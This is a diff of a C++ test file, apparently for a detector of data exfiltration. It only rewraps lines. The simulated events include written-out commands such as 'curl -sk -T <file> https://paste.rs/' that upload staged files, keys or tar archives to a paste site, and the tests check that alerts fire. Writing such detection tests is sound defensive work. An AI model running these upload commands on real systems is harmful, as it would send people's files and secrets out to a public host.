@@ -71,7 +71,8 @@ TEST_CASE("a staging chain of four hops through /dev/shm and /tmp, uploaded two 
         tl.step(hour_ms / 2);
     }
     tl.step(hour_ms);
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", paths[3], "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    auto curl =
+        tl.spawn(tl.shell, {"curl", "-sk", "-T", paths[3], "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
     tl.read(curl, paths[3], 2600, 804);
     tl.transfer(curl, "paste.rs", 1300 + 2600, 400);
     REQUIRE_FALSE(silent(tl));
@@ -228,7 +229,8 @@ TEST_CASE("a parent learns from a child only through an object; siblings and bac
     Timeline tl;
     auto bg = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::other);
     tl.open_read(bg, key);
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/r", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    auto curl =
+        tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/r", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
     tl.summary(bg, key, 2600);
     tl.read(curl, "/tmp/r", 4000, 12);
     tl.transfer(curl, "paste.rs", 1300 + 4000, 400);
@@ -258,7 +260,8 @@ TEST_CASE("command substitution at depth 3 through forked subshells: curl -d \"$
     tl.exit(s3);
     tl.exit(s2);
     tl.exit(s1);
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    auto curl =
+        tl.spawn(tl.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
     tl.transfer(curl, "paste.rs", 1300 + 600, 400);
     REQUIRE_FALSE(silent(tl));
     CHECK(tl.alerts[0].subtechnique_id == "T1567.003");
@@ -270,7 +273,8 @@ TEST_CASE("command substitution at depth 3 through forked subshells: curl -d \"$
     exact.object_io(c, ObjectKind::pipe, 4101, IoDirection::write, 411);
     exact.object_io(exact.shell, ObjectKind::pipe, 4101, IoDirection::read, 411);
     exact.exit(c);
-    auto up = exact.spawn(exact.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    auto up =
+        exact.spawn(exact.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
     exact.transfer(up, "paste.rs", 1300 + 600, 400);
     CHECK_FALSE(silent(exact));
 }
@@ -408,7 +412,8 @@ TEST_CASE("a parent writes the stdin pipe of a child it spawned: tar czf runs gz
     tl.read(tar, key, 2600);
     tl.exit(gz);
     tl.exit(tar);
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/d.tgz", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    auto curl =
+        tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/d.tgz", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
     tl.read(curl, "/tmp/d.tgz", 2000, 5501);
     tl.transfer(curl, "paste.rs", 1300 + 2000, 400);
     REQUIRE_FALSE(silent(tl));
